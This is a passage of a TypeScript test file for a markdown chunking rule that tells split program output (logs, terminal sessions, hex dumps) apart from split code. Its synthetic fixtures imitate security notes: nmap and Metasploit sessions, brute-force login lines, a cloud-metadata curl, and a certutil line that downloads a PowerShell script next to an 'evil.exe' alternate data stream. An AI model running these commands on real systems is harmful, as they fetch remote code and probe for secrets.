// Recorded program output the cap cuts (a terminal session, a log, a hex dump) is the pipeline's (CK006), and a
// cut inside one unbroken string longer than the cap is no break the writer can move (CK007).

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { isAlignedListing, recordedOutputKind } from '../../../../shared/rules/recordedOutput';
import { analyzeText, readFixture } from '../../../helpers/analyzeText';

const budgets = { maxTokens: 60, targetTokens: 40, minTokens: 1, overlapTokens: 0 };
const lines = (n: number, line: (i: number) => string) => Array.from({ length: n }, (_, i) => line(i)).join('\n');

function findings(text: string, ruleId: string, caps = budgets) {
  const a = analyzeText(text, { budgets: caps });
  return { writer: a.findings.filter((f) => f.ruleId === ruleId), pipeline: a.pipelineFindings.filter((f) => f.ruleId === ruleId) };
}

describe('recorded output split across chunks is the pipeline\'s', () => {
  const recordings: Array<[string, string, RegExp]> = [
    ['a Kali session: the two-line prompt, nmap and its report', `\`\`\`bash\n┌──(kali㉿kali)-[~/box]\n└─$ sudo nmap -sV -p21,22,80 10.10.10.245\n${lines(30, (i) => `${1000 + i}/tcp open  service-${i} version ${i}.0`)}\n\`\`\``, /terminal session/],
    ['a user@host prompt and netstat\'s table', `\`\`\`bash\nuser@box:/tmp$ netstat -polentau\n${lines(30, (i) => `tcp  0  0 127.0.0.1:${3000 + i}  0.0.0.0:*  LISTEN  ${i}`)}\n\`\`\``, /terminal session/],
    ['a PowerShell prompt and the output of a script', `\`\`\`powershell\nC:\\wamp\\www> .\\clsid.bat\n${lines(30, (i) => `{0002140${i}-0000-0000-C000-000000000046} 10000`)}\n\`\`\``, /terminal session/],
    ['a Windows prompt behind a user name (`user@HOST C:\\Users>`)', `\`\`\`powershell\nl4mpje@BASTION C:\\Users\\L4mpje>netstat -ano\n${lines(30, (i) => `TCP    0.0.0.0:${100 + i}   0.0.0.0:0   LISTENING   ${i}`)}\n\`\`\``, /terminal session/],
    ['a Metasploit console', `\`\`\`bash\nmeterpreter > bg\n${lines(15, (i) => `[*] step ${i} of the module\nmsf6 exploit(windows/local/kitrap0d) > set option${i} ${i}`)}\n[*] done\n\`\`\``, /terminal session/],
    ['an HTTP request as a proxy captured it', `\`\`\`http\nPOST /products/add HTTP/1.1\nHost: 206.189.26.97:31334\nContent-Type: multipart/form-data\n\n${lines(30, (i) => `field${i}=value-${i}&`)}\n\`\`\``, /an HTTP request or response/],
    ['an interactive setup: questions and menus, each answered at a named prompt (rclone config, as rclone\'s s3.md records it)', `\`\`\`text\nNo remotes found, make a new one?\nn) New remote\ns) Set configuration password\nq) Quit config\nn/s/q> n\n\nEnter name for new remote.\nname> my-store\n\n${lines(8, (i) => `Option field${i}.\nChoose a number from below, or type in your own value.\n 1 / First choice for field ${i}\n   \\ (first)\n 2 / Second choice for field ${i}\n   \\ (second)\nfield${i}> ${i % 2 + 1}\n`)}\nKeep this "my-store" remote?\ny/e/d> y\n\`\`\``, /an interactive setup/],
    ['a console fence whose session opens with output', `\`\`\`console\nStarting the service\n$ tail -f server.log\n${lines(30, (i) => `request ${i} served in ${i} ms`)}\n\`\`\``, /terminal session/],
    ['a kernel log (dmesg): seconds since boot in brackets', `\`\`\`\n${lines(30, (i) => `[  166.840${String(1000 + i).slice(1)}] sd 7:0:0:${i % 4}: Attached scsi generic sg${i} type 0`)}\n\`\`\``, /a log/],
    ['a prompt of a user, host and folder in brackets, the command right after its `#` (`[root@ubuntu0006:/media/study] #valgrind ./a.out`: HanKin2015/GitBook)', `\`\`\`\n[root@ubuntu0006:/media/study] #valgrind --leak-check=full ./a.out\n${lines(30, (i) => `==17860== block ${i} of the heap is still reachable`)}\n\`\`\``, /terminal session/],
    ['a word list with glosses, a term and its meaning a line (`trivial 琐碎的，不重要的`: HanKin2015/GitBook English.md)', `\`\`\`\n${lines(30, (i) => `term${String.fromCharCode(97 + (i % 26))} 模拟，仿真的 ${i}`)}\n\`\`\``, /a word list with glosses/],
    ['an IoT SDK log stamped with Unix time in seconds (`[1682249479.453][LK-0313] …`: TonyCrane/note)', `\`\`\`text\n${lines(30, (i) => `[16822494${String(10 + i)}.453][LK-0309] pub: /device/${i}/user/get`)}\n\`\`\``, /a log/],
    ['a training log whose stamps leave out the year (mmengine)', `\`\`\`\n${lines(30, (i) => `07/03 13:04:${String(10 + i)} - mmengine - INFO - Epoch(train)  [1][ ${i}0/196]  lr: 3.3333e-04  loss: 2.${i}`)}\n\`\`\``, /a log/],
    ['a prompt that is the working folder under home (`~/pytorch-examples/mnist$ python main.py` and the training log: nolebase/nolebase)', `\`\`\`shell\n~/pytorch-examples/mnist$ python main.py\n${lines(30, (i) => `Epoch ${i}: 100%|█████| 938/938 [00:13<00:00, 71.${i}it/s, v_num=1]`)}\n\`\`\``, /terminal session/],
    ['a kubelet journal in a Chinese locale, opened by a klog line (`10月 07 18:12:48 node1 kubelet[62982]: E1007 …`: nolebase/nolebase)', `\`\`\`shell\nE1007 18:12:48.784251   62982 remote_runtime.go:294] "List failed"\n${lines(30, (i) => `10月 07 18:12:${String(10 + i)} node1 kubelet[62982]: E1007 list ${i} failed`)}\n\`\`\``, /a log/],
    ['an Airflow task log (`[2023-01-26, 15:26:05 UTC] {{taskinstance.py:1262}} INFO - …`: 094459/consulting)', `\`\`\`\n${lines(30, (i) => `[2023-01-26, 15:26:${String(10 + i)} UTC] {{taskinstance.py:${1200 + i}}} INFO - step ${i} of the task ran`)}\n\`\`\``, /a log/],
    ['a log of time-stamped lines', `\`\`\`\n${lines(30, (i) => `2025-07-31 06:45:52.${String(100 + i)}  INFO 17273 --- [worker] listener : callStart ${i}`)}\n\`\`\``, /a log/],
    ['a server log behind its process id (nats-server)', `\`\`\`\n${lines(30, (i) => `[2932] 2025/10/28 12:29:02.${String(879297 + i)} [INF] Starting part ${i}`)}\n\`\`\``, /a log/],
    ['docker compose output: each line behind its container\'s name', `\`\`\`\n${lines(30, (i) => `nats-${i % 3}_1  | [1] 2021/09/28 10:42:36.${String(742844 + i)} [INF] Route ${i} created`)}\n\`\`\``, /a log/],
    ['kubectl get output: a header row of column names, then a row per object (flux cheatsheet)', `\`\`\`\nNAME                          AGE    READY   STATUS\n${lines(30, (i) => `kustomization/app-${i}          ${i}d    True    Applied revision main@sha1:${i}`)}\n\`\`\``, /a command's table output/],
    ['terminal output with its colour codes (expressive-code syntax-highlighting.mdx, an `ansi` fence)', `\`\`\`ansi\n${lines(30, (i) => `- Colour ${i}: \x1b[3${i % 8}m Sample \x1b[0m`)}\n\`\`\``, /ANSI escape sequences/],
    ['colour codes in an unlabelled fence', `\`\`\`\n${lines(30, (i) => `\x1b[1;3${i % 8}mstep ${i} passed\x1b[0m in ${i} ms`)}\n\`\`\``, /ANSI escape sequences/],
    ['a rule set of one-line list items with comments after them and comment lines over each group (Rime spelling rules: Mintimate/DocVitePressOMR fuzzyPinyin.md)', `\`\`\`yaml\n    ### Automatic error correction\n${lines(20, (i) => `    # group ${i}\n    - derive/([zcs])h(a|e|i${i})$/h$1$2/  # hz${i} → zh${i}\n    - derive/^([wghk])ai${i}$/$1ia/`)}\n\`\`\``, /one unbroken string per line/],
    ['a Sigma rule\'s value list: one hash or name per list item', `\`\`\`yaml\nselection:\n  Hashes|contains:\n${lines(30, (i) => `  - MD5=${String(i).padStart(32, 'a')}`)}\n\`\`\``, /one unbroken string per line/],
    ['a word list of paths', `\`\`\`\n${lines(40, (i) => `C:\\Apache${i}\\logs\\access.log`)}\n\`\`\``, /one unbroken string per line/],
    ['a compressed drawing', `\`\`\`compressed-json\n${lines(30, (i) => `N4KAkARALgngDgUwgLgAQQQDwMYEMA2A${i}`)}\n\`\`\``, /one unbroken string per line/],
    ['a session behind a lab prompt (`user@htb[/htb]$`, a `shell-session` fence)', `\`\`\`shell-session\n0xuser@htb[/htb]$ sudo nmap --open -p- 10.129.203.101\n${lines(30, (i) => `${1000 + i}/tcp open  service-${i} version ${i}.0`)}\n\`\`\``, /terminal session/],
    ['a session behind a rounded two-line prompt (`╰─$ gobuster`)', `\`\`\`bash\n╰─$ gobuster dir -u http://dev.local/ -w common.txt\n${lines(30, (i) => `/page${i}.php           (Status: 200) [Size: ${i}]`)}\n\`\`\``, /terminal session/],
    ['a radare2 session: `[0xaaaaafc20640]> pdf` and the disassembly it printed (fan2/mkdocs a64-pcs-demo.md)', `\`\`\`bash\n[0xffff82ed4c40]> dcu entry0\n[0xaaaaafc20754]> pdf\n${lines(30, (i) => `│  main + ${4 * i}   0xaaaaafc2${String(754 + 4 * i)}   fd7b42a9   ldp x29, x30, [var_${i}h]`)}\n\`\`\``, /terminal session/],
    ['a session under a note (`# cc x.c -S` over `$ cc x.c -S -o -` and the assembly it printed: fan2/mkdocs gcc-compilation-stage.md)', `\`\`\`bash\n# cc test-gdb.c -S -fverbose-asm [-o test-gdb.s]\n$ cc test-gdb.c -S -fverbose-asm -o -\n${lines(30, (i) => `// test-gdb.c:${i}:     sum+=i;\n    ldr\tw0, [sp, ${4 * i}]\t// tmp${i}, i`)}\n\`\`\``, /terminal session/],
    ['a tool\'s status lines (`[*]`, `[+]`, `[-]`) with no prompt', `\`\`\`\n${lines(30, (i) => `[${'*+-'[i % 3]}] http://172.16.5.200:8080 - LOGIN FAILED: user${i}:pass${i}`)}\n\`\`\``, /printed records/],
    ['a process-tagged log (`dyld[21147]: …`) after its command', `\`\`\`\nDYLD_PRINT_SEGMENTS=1 ./apple\n${lines(30, (i) => `dyld[21147]:         0x1D5D4C${i}000->0x1D5EC3FFF init=1, max=3 __DATA_CONST`)}\n\`\`\``, /printed records/],
    ['rows of numbers (a debugger\'s memory map)', `\`\`\`\n${lines(30, (i) => `0x0000555555${i}54000 0x0000555555556000 0x0000000000000000 r-x /pod/stackstuff`)}\n\`\`\``, /printed records/],
    ['six traces a program printed, a whole JSON object a line (terragrunt open-telemetry.mdx)', `\`\`\`json\n${lines(6, (i) => `{"Name":"run_module_${i}","TraceID":"bdf3cb90${i}","SpanID":"f9158${i}","Remote":false}`)}\n\`\`\``, /one JSON record per line/],
    ['a bulk request\'s body: one JSON record per line', `\`\`\`json\nPOST _bulk\n${lines(15, (i) => `{ "index": { "_index": "docs", "_id": "${i}" } }\n{ "text": "Document ${i} of the population table, with the figures of its year." }`)}\n\`\`\``, /one JSON record per line/],
    ['a list of search dorks, one quoted string per line', `\`\`\`bash\n${lines(30, (i) => `"access_key number ${i}"`)}\n\`\`\``, /one unbroken string per line/],
    ['a list of Windows paths with spaces', `\`\`\`\n${lines(30, (i) => `C:\\Program Files\\App ${i}\\logs\\access.log`)}\n\`\`\``, /one unbroken string per line/],
    ['a debugger session (`(lldb) b xpc_pipe_routine` and what it printed)', `\`\`\`bash\n(lldb) b xpc_pipe_routine\n${lines(30, (i) => `frame #${i}: 0x00000001000${i}3f2 sand\`main + ${i * 4}`)}\n\`\`\``, /terminal session/],
    ['a debugger\'s disassembly (`0x… <+4>:  mov`)', `\`\`\`\n${lines(30, (i) => `   0x00000000004011${(i * 4).toString(16).padStart(2, '0')} <+${i * 4}>:\tmov    %edi,-0x14(%rbp)`)}\n\`\`\``, /printed records/],
    ['a Zeek log: its header directives (`#separator`, `#fields`), then tab-separated rows', `\`\`\`\n#separator \\x09\n#set_separator\t,\n#path\tconn\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tproto\n${lines(30, (i) => `13004751${i}.096535\tCRR${i}ab\tgateway-${i}.local\t${5353 + i}\tudp`)}\n\`\`\``, /a program's report/],
    ['a port scanner\'s port lines', `\`\`\`\n${lines(30, (i) => `${1000 + i}/tcp   open  service-${i}     Version ${i} of the service`)}\n\`\`\``, /printed records/],
    ['a tool\'s debug log: every line behind its level (`[DEBUG] …`)', `\`\`\`\n${lines(25, (i) => `[DEBUG]   patch-${i}.patch|${String(i).padStart(2, '0')}50b9542cb55e6328cca01d3ca997f1373b9530afa95e04213168676936e7bfa`)}\n\`\`\``, /printed records/],
    ['a notebook\'s output cell (```output): five long printed lines, no prompt', `\`\`\`output\n${lines(5, (i) => `page_content='Clause ${i}. The services are charged on a daily basis and reviewed each month.' metadata={'page': ${i}}`)}\n\`\`\``, /output its fence declares/],
    ['a command and the help it printed, from its `Usage:` line (TrshPuppy obsidian-notes arp-scan.md)', `\`\`\`bash\narp-scan --help\nUsage: arp-scan [options] [hosts...]\n\nTarget hosts must be given on the command line.\n${lines(15, (i) => `The tool sends request ${i} to every host in the list and prints a line for each host that answers it.`)}\n\`\`\``, /a program's report/],
    ['a scanner\'s ASCII-art banner under its command, then what it printed (TrshPuppy obsidian-notes rustscan.md)', `\`\`\`bash\n# ./scanner -a 192.168.1.5 -- -A\n.----. .-. .-. .----..---.  .----. .---.   .--.\n| {}  }| { } |{ {__ {_   _}{ {__  /  ___} / {} \\\n\`-' \`-'\`-----'\`----'  \`-'  \`----'  \`---' \`-'  \`-'\n${lines(20, (i) => `Open 192.168.1.5:${1000 + i}\nPORT ${1000 + i}/tcp open service-${i} syn-ack`)}\n\`\`\``, /a program's report/],
        ['a hex dump', `\`\`\`txt\n${lines(30, (i) => `${(i * 16).toString(16).padStart(8, '0')}: 0931 3237 2e30 2e30 2e31 00ff ff00 0161  .127.0.0.1.....a`)}\n\`\`\``, /a hex dump/],
  ];
  for (const [name, block, kind] of recordings) {
    it(`${name}: a pipeline finding naming the recording and the cap that holds it`, () => {
      const { writer, pipeline } = findings(`# Notes\n\n${block}\n`, 'CK006');
      assert.deepEqual(writer, []);
      assert.equal(pipeline.length, 1);
      assert.match(pipeline[0].pipeline!.cause, kind);
      assert.match(pipeline[0].pipeline!.remedy, /^maxTokens ≥ \d+ \(now 60\) keeps it whole/);
    });
  }

  it('a session in a list item is the pipeline\'s too', () => {
    const block = `- Enumerated WordPress:\n\n    \`\`\`bash\n    $ wpscan --url office.paper\n${lines(30, (i) => `    [+] Finding ${i}: plugin-${i} version ${i}.2`)}\n    \`\`\``;
    const { writer, pipeline } = findings(`# Notes\n\n${block}\n`, 'CK006');
    assert.deepEqual(writer, []);
    assert.match(pipeline[0].pipeline!.cause, /terminal session/);
  });
});

describe('real recordings the cap cuts are the pipeline\'s (test/fixtures/ck006)', () => {
  // A cap that holds the longest line of most of these excerpts (a banner, a row) and none of their blocks; a short excerpt keeps the small cap.
  const wide = { ...budgets, maxTokens: 150, targetTokens: 100 };
  const excerpts: Array<[string, string, RegExp, typeof budgets?]> = [
    ['a k6 end-of-test summary after its ASCII-art banner (k6-docs using-k6-browser)', 'k6-end-of-test-summary.md', /an end-of-run summary: metrics behind dot leaders/],
    ['an nmap report saved without its command (HackTricks CPTS nmap.md)', 'nmap-report.md', /a program's report: it opens with a header only the program prints/],
    ['objdump\'s section headers after the command that printed them (HackTricks elf-tricks.md)', 'objdump-section-headers.md', /a program's report/],
    ['a Bus Pirate session: mode prompts (`I2C>v`, `(1)>4`), what the device printed, `#` notes between (HackTricks i2c.md)', 'bus-pirate-session.md', /an annotated session/],
    ['an lldb session behind a note (HackTricks arm64-basic-assembly.md)', 'lldb-session.md', /an annotated session/, budgets],
    ['a list of login-bypass payloads: words and injections whose quotes are left open (HackTricks sql-login-bypass.md)', 'login-bypass-payloads.md', /one literal per line/],
    ['XSS polyglots, one a line (HackTricks pocs-and-polygloths-cheatsheet)', 'xss-polyglots.md', /one literal per line/],
    ['a PowerShell table (a header row, a rule of dashes, a row per command) after its command (HackTricks laps.md)', 'powershell-table.md', /a program's printed records/],
    ['a table drawn with box characters, each line shown as `# =>` output under its command (Nushell cookbook parsing_git_log.md)', 'nushell-output-comments.md', /a program's printed records/],
    ['an `ansi:no-line-numbers` fence (VitePress\'s line-number switch after the language; Nushell release notes)', 'nushell-ansi-line-numbers.md', /ANSI escape sequences/, { ...budgets, maxTokens: 400, targetTokens: 300 }],
    ['a table with psql-style rules (`----+-----`) under its command (Nushell\'s introduction post)', 'ascii-table-output.md', /a program's printed records/],
    ['a build log its lead-in points at mid-sentence ("Taking a look at the following output shows …"; Buildpacks lifecycle tutorial)', 'lifecycle-build-log.md', /program output, as its lead-in says/],
    ['a DER structure decoded a field a line, `#` comments naming the fields (letsencrypt website 2018-04-04-sct-encoding.markdown)', 'annotated-der-encoding.md', /an annotated encoding: bytes in hex/],
    ['an event log entry its lead-in points at ("errors … that resemble the following log entry:"; mdop-docs troubleshooting-mbam-installation.md)', 'event-log-entry.md', /program output, as its lead-in says/],
  ];
  for (const [name, file, kind, caps = wide] of excerpts) {
    it(`${name} is a pipeline finding naming the recording`, () => {
      const { writer, pipeline } = findings(readFixture('ck006', file), 'CK006', caps);
      assert.deepEqual(writer, []);
      assert.equal(pipeline.length, 1);
      assert.match(pipeline[0].pipeline!.cause, kind);
    });
  }
});

describe('a lead-in that says what follows is output or what a program displayed', () => {
  const wide = { maxTokens: 400, targetTokens: 300, minTokens: 1, overlapTokens: 0 };
  const block = `\`\`\`\n${Array.from({ length: 120 }, (_, i) => `Step ${i} of the task finished with status ok and wrote item ${i}`).join('\n')}\n\`\`\``;
  for (const leadIn of ['The following is the Console Output for one of my Tasks', 'Here is the full information displayed at the end of Import-OSMedia']) {
    it(`"${leadIn}" (OSDeploy GitBook) makes the block program output`, () => {
      const { writer, pipeline } = findings(`# Tasks\n\n${leadIn}\n\n${block}\n`, 'CK006', wide);
      assert.deepEqual(writer, []);
      assert.match(pipeline[0]?.pipeline?.cause ?? '', /program output, as its lead-in says/);
    });
  }
  for (const title of ['#### 日志输出', '### 运行结果', '## Log output', '### 実行結果', '### 출력 결과']) {
    it(`a heading "${title.replace(/^#+ /, '')}" (taketox/vitepress-note-page's vaultwarden log) makes the block program output`, () => {
      const { writer, pipeline } = findings(`# Tasks\n\n${title}\n\n${block}\n`, 'CK006', wide);
      assert.deepEqual(writer, []);
      assert.match(pipeline[0]?.pipeline?.cause ?? '', /program output, as its lead-in says/);
    });
  }
  it('a Chinese lead-in whose last clause names the output ("…，可以看到输出：", TonyCrane/note aliyunctf2023.md) makes the block program output', () => {
    const { writer, pipeline } = findings(`# Tasks\n\nfile 一下是 Mach-O 正好 mac 可以跑，可以看到输出：\n\n${block}\n`, 'CK006', wide);
    assert.deepEqual(writer, []);
    assert.match(pipeline[0]?.pipeline?.cause ?? '', /program output, as its lead-in says/);
  });
  it('a Chinese lead-in that introduces the code computing a result ("计算结果的代码如下：") does not', () => {
    assert.equal(findings(`# Tasks\n\n计算结果的代码如下：\n\n${block}\n`, 'CK006', wide).writer.length, 1);
  });
  it('a heading "日志配置" (log settings) or "输出格式" does not', () => {
    for (const title of ['#### 日志配置', '#### 输出格式']) assert.equal(findings(`# Tasks\n\n${title}\n\n${block}\n`, 'CK006', wide).writer.length, 1, title);
  });
  it('"The following is a list of steps" does not', () => {
    assert.equal(findings(`# Tasks\n\nThe following is a list of steps\n\n${block}\n`, 'CK006', wide).writer.length, 1);
  });
});

describe('a few lines filled with encoded data are a recording however few', () => {
  const wide = { maxTokens: 400, targetTokens: 300, minTokens: 1, overlapTokens: 0 };
  const psbt = 'cHNidP8BAJoCAAAAAkiMdlxF3M20VpdnCMK0NOkEoETG6Aa4HpC8Vv9RtJc1AQAAAAAAAAAA4lBjZUtG260qBBgVRqMQqmMV';

  it('a command and the signed transaction it printed, three long base64 lines in five (lightninglabs docs psbt.md, MIT)', () => {
    const block = `\`\`\`shell\n$  lncli wallet psbt finalize ${psbt.repeat(4)}\n{\n    "psbt": "${psbt.repeat(5)}",\n    "final_tx": "${'02000000000102488c765c45dccdb456976708c2b434e9'.repeat(8)}"\n}\n\`\`\``;
    const { writer, pipeline } = findings(`# Notes\n\n${block}\n`, 'CK006', wide);
    assert.deepEqual(writer, []);
    assert.equal(pipeline.length, 1);
    assert.match(pipeline[0].pipeline!.cause, /encoded data: long unbroken strings/);
  });

  it('code with one long key among many lines of code stays the writer\'s', () => {
    const block = `\`\`\`js\n${lines(40, (i) => `const value${i} = compute(${i}, 'https://example.org/data/${i}') + offset;`)}\nconst key = '${psbt}';\n\`\`\``;
    const { writer } = findings(`# Notes\n\n${block}\n`, 'CK006', wide);
    assert.equal(writer.length, 1);
  });
});

describe('split code that is no recording stays the writer\'s', () => {
  const code: Array<[string, string]> = [
    ['numbers and words under comments (not every line a field of hex bytes)', `\`\`\`\n${lines(15, (i) => `# field ${i}\n${(i * 17).toString(16).padStart(2, '0')}\nlength of field ${i}`)}\n\`\`\``],
    ['commands each behind a prompt, with no output', `\`\`\`bash\n${lines(30, (i) => `$ kubectl apply -f manifest-${i}.yaml`)}\n\`\`\``],
    ['a LaTeX excerpt behind comment lines', `\`\`\`latex\n% the preamble\n% and its packages\n${lines(30, (i) => `\\newcommand{\\macro${i}}{value ${i}}`)}\n\`\`\``],
    ['a cheat sheet of commands with their comments', `\`\`\`bash\n${lines(30, (i) => `curl -s -H "Metadata-Flavor:Google" http://metadata/v1/project/${i} # attribute ${i}`)}\n\`\`\``],
    ['Python code holding numbers', `\`\`\`python\n${lines(30, (i) => `weights[${i}] = scale(${i}, 0.${i}, offset=${i * 16})`)}\n\`\`\``],
    ['a cheat sheet of commands, each behind a shell prompt under its caption', `\`\`\`bash\n${lines(12, (i) => `List the files of project ${i}\n$ ls -la /srv/project-${i}\n`)}\n\`\`\``],
    ['a shell excerpt behind comments', `\`\`\`bash\n# install the tools\n${lines(30, (i) => `apt-get install -y tool-${i}`)}\n\`\`\``],
    ['a cheat sheet of commands under notes, a few behind a prompt (`C:\\> type …`), most bare', `\`\`\`bash\n${lines(10, (i) => `# Step ${i} of the recipe\nC:\\temp> type file${i}.exe > "C:\\Program Files\\log${i}.txt:evil.exe"\n# and then\ncertutil.exe -urlcache -split -f https://example.com/${i}.ps1 c:\\temp:t${i}\ndir /R c:\\dir${i}`)}\n\`\`\``],
    ['PowerShell parameters typed in brackets (`[String]$Mode,`), no prompts', `\`\`\`powershell\n${lines(30, (i) => `[String]$Param${i},\n# parameter ${i}`)}\n\`\`\``],
    ['numbered steps in a fence (`1) Right click …`)', `\`\`\`\n${lines(15, (i) => `${i + 1}) Click the "Option ${i}" button and wait for the dialog.\n`)}\n\`\`\``],
    ['JavaScript calls chained over lines without indentation', `\`\`\`js\n${lines(15, (i) => `fetch(url${i}, {\nmethod: 'POST' })`)}\n\`\`\``],
    ['a tool\'s version banner followed by C code', `\`\`\`c\nImpacket v0.9.24 - Copyright 2021 SecureAuth Corporation\n${lines(30, (i) => `int value${i} = compute(${i});`)}\n\`\`\``],
    ['code under a banner comment of rules', `\`\`\`c\n/* ========================== */\n/* ========================== */\n${lines(30, (i) => `int value${i} = compute(${i});`)}\n\`\`\``],
    ['code after one line of art', `\`\`\`js\n.-.-.-.-.-.-.-.-.-.-.-.-.-.-.-.-.-\n${lines(30, (i) => `run(step${i});`)}\n\`\`\``],
        ['JavaScript that spreads and elides (`...args`, `// ...`)', `\`\`\`js\n${lines(30, (i) => `call${i}(...args); // ... and then step ${i}`)}\n\`\`\``],
    ['a log that repeats one line five times in a row (`Pod not yet started` each second, as an Airflow log in 094459/consulting), which the writer can trim', `\`\`\`\n${lines(10, (i) => `2023-08-15 19:27:${String(10 + i)} {{kubernetes_pod.py:${380 + i}}} INFO - step ${i}`)}\n${lines(20, (i) => `2023-08-15 19:28:${String(10 + i)} {{pod_manager.py:180}} WARNING - Pod not yet started: mwaa-pod-test`)}\n\`\`\``],
  ];
  for (const [name, block] of code) {
    it(`${name} is reported on its line`, () => {
      const { writer, pipeline } = findings(`# Notes\n\n${block}\n`, 'CK006');
      assert.equal(writer.length, 1);
      assert.deepEqual(pipeline, []);
    });
  }

  it('a block its lead-in calls output (`**Coreinfo Output:**`) is the pipeline\'s; a lead-in that says nothing of output leaves it the writer\'s', () => {
    const body = `\`\`\`txt\n${lines(30, (i) => `Logical processor ${i} is in group 0 and has its own cache of ${i} KB`)}\n\`\`\``;
    const announced = findings(`# Coreinfo\n\n**Coreinfo Output:**\n\n${body}\n`, 'CK006');
    assert.deepEqual(announced.writer, []);
    assert.match(announced.pipeline[0].pipeline!.cause, /program output, as its lead-in says/);
    assert.equal(findings(`# Coreinfo\n\nThe processors are listed below.\n\n${body}\n`, 'CK006').writer.length, 1);
  });

  it('a lead-in wrapped over two lines, also in the list item that holds the code (Tekton kaniko-build-push.md), announces output', () => {
    const log = (indent: string) => `${indent}\`\`\`\n${lines(30, (i) => `${indent}[build-push : build-and-push] step ${i} of the image build took ${i} ms`)}\n${indent}\`\`\``;
    const lead = 'After a few seconds, the output confirms that the image was built and\npushed successfully:';
    const wrapped = findings(`# Run\n\n${lead}\n\n${log('')}\n`, 'CK006');
    assert.deepEqual(wrapped.writer, []);
    assert.match(wrapped.pipeline[0].pipeline!.cause, /program output, as its lead-in says/);
    const item = `# Run\n\n1.  Run the pipeline:\n\n    After a few seconds, the output confirms that the image was built and\n    pushed successfully:\n\n${log('    ')}\n`;
    const nested = findings(item, 'CK006');
    assert.deepEqual(nested.writer, []);
    assert.match(nested.pipeline[0].pipeline!.cause, /program output, as its lead-in says/);
    const silent = findings(item.replace(/After a few seconds[^:]*:/, 'Watch it run.'), 'CK006');
    assert.equal(silent.writer.length, 1);
  });

  it('a response announced by its lead-in ("returns the following response", a heading "Example response", a fold\'s `<summary>Response</summary>`) is the pipeline\'s', () => {
    const result = `\`\`\`\n${lines(30, (i) => `Mean throughput of task ${i} was measured in the last run`)}\n\`\`\``;
    const leads = [
      'OpenSearch Benchmark returns the following response once the benchmark completes:',
      '#### Example response',
      '<details markdown="block">\n  <summary>\n    Response\n  </summary>\n  {: .text-delta}\n',
      'The response should appear similar to the following:',
    ];
    for (const lead of leads) {
      const { writer, pipeline } = findings(`# Run\n\n${lead}\n\n${result}\n`, 'CK006');
      assert.deepEqual(writer, [], lead);
      assert.match(pipeline[0].pipeline!.cause, /program output, as its lead-in says/, lead);
    }
    const plain = `\`\`\`js\n${lines(40, (i) => `let value${i} = compute(${i});`)}\n\`\`\``;
    assert.match(findings(`# Run\n\n#### Example response\n\n${plain}\n`, 'CK006').pipeline[0].pipeline!.cause, /program output, as its lead-in says/);
    assert.equal(findings(`# Run\n\nTo get better results, use the following settings:\n\n${plain}\n`, 'CK006').writer.length, 1);
    assert.equal(findings(`# Run\n\nThe reporter writes the following output format. Set it in the config file.\n\n${plain}\n`, 'CK006').writer.length, 1);
  });

  it('a lead-in that likens the block to what a program returns, points at the output below in an earlier sentence, or a fold titled "Result" announces output (fluent-bit, Thanos, Trivy docs)', () => {
    const result = `\`\`\`text\n${lines(30, (i) => `[${i}] tail.0: [1626736433.1435${i}, {"log"=>"line ${i} of the stack trace"}]`)}\n\`\`\``;
    const leads = [
      'Should return something like the following:',
      'Which returns information like:',
      'Below is an example output of the changelog. The last column represents the start and end time of the series.',
      'The output is listed below.',
      '<details>\n<summary>Result</summary>\n',
      'When the update completes, the server responds with a redirect to the settings page which now contains the success state as well as the updated identity:',
    ];
    for (const lead of leads) {
      const { writer, pipeline } = findings(`# Run\n\n${lead}\n\n${result}\n`, 'CK006');
      assert.deepEqual(writer, [], lead);
      assert.match(pipeline[0].pipeline!.cause, /program output, as its lead-in says/, lead);
    }
    const code = `\`\`\`js\n${lines(40, (i) => `let value${i} = compute(${i});`)}\n\`\`\``;
    assert.equal(findings(`# Run\n\nThe function returns the user's name:\n\n${code}\n`, 'CK006').writer.length, 1, 'a verb of returning alone introduces code');
    assert.equal(findings(`# Run\n\nBelow is an example output of the changelog. To produce it, run:\n\n${code}\n`, 'CK006').writer.length, 1, 'a last sentence ending in a colon introduces the block');
  });

  it('argparse\'s and kingpin\'s lowercase `usage:` heads a help the program printed (Thanos `mdox-exec="thanos compact --help"`)', () => {
    const help = `\`\`\`$ mdox-exec="tool compact --help"\nusage: tool compact [<flags>]\n\nContinuously compacts blocks in an object store bucket.\n\nFlags:\n${lines(12, (i) => `      --[no-]flag-${i}          What flag ${i} sets when the compactor\n                                runs, and what it leaves to the\n                                other components of the store.`)}\n\`\`\``;
    const { writer, pipeline } = findings(`# Compact\n\n## Flags\n\n${help}\n`, 'CK006');
    assert.deepEqual(writer, []);
    assert.match(pipeline[0].pipeline!.cause, /a program's report/);
  });

  it('a drawn tree (`│   ├── src`) is no drawn table: its bars hold no text between them', () => {
    const tree = ['project', ...Array.from({ length: 12 }, (_, i) => `│   ${i % 3 ? '├──' : '└──'} module-${i}.ts`)];
    assert.doesNotMatch(recordedOutputKind('', tree) ?? '', /printed records/);
    const table = ['> ls', '───┬────────', ...Array.from({ length: 10 }, (_, i) => ` ${i} │ file-${i} │ ${i} KB`), '───┴────────'];
    assert.match(recordedOutputKind('', table)!, /printed records/);
  });

  it('listings whose every line is a record stand alone: aligned columns, the INSERT rows of an SQL dump, printed Python objects, titles separated by commas (TonyCrane/note, etnatrader/gitbookHelp, wielebenwir/commonsbooking)', () => {
    const routes = lines(40, (i) => `10.0.${i}.0/24${' '.repeat(i < 10 ? 8 : 7)}utun9              UGc                 utun9`);
    const plugins = lines(40, (i) => `linux_plugin_${i}${' '.repeat(i < 10 ? 14 : 13)}- Checks part ${i} of the kernel memory`);
    const inserts = lines(40, (i) => `INSERT INTO #TEMP_Country (Id, Name, Code) VALUES(${i}, 'Country${i}', 'C${i}')`);
    const subclasses = lines(40, (i) => `(${i}, <class 'module${i}.Type${i}'>)`);
    assert.ok(isAlignedListing(routes.split('\n')));
    assert.ok(isAlignedListing(plugins.split('\n')));
    assert.match(findings(`# Plugins\n\n\`\`\`text\n${plugins}\n\`\`\`\n`, 'CK006').pipeline[0].pipeline!.cause, /aligned columns/);
    assert.match(recordedOutputKind('sql', inserts.split('\n'))!, /SQL data/);
    assert.match(recordedOutputKind('python', subclasses.split('\n'))!, /printed records/);
    const titles = lines(40, (i) => `Song ${i} Of The Year, Another Song ${i}, Yet Another (Take ${i}), Song`);
    assert.match(recordedOutputKind('', titles.split('\n'))!, /values separated by commas/);
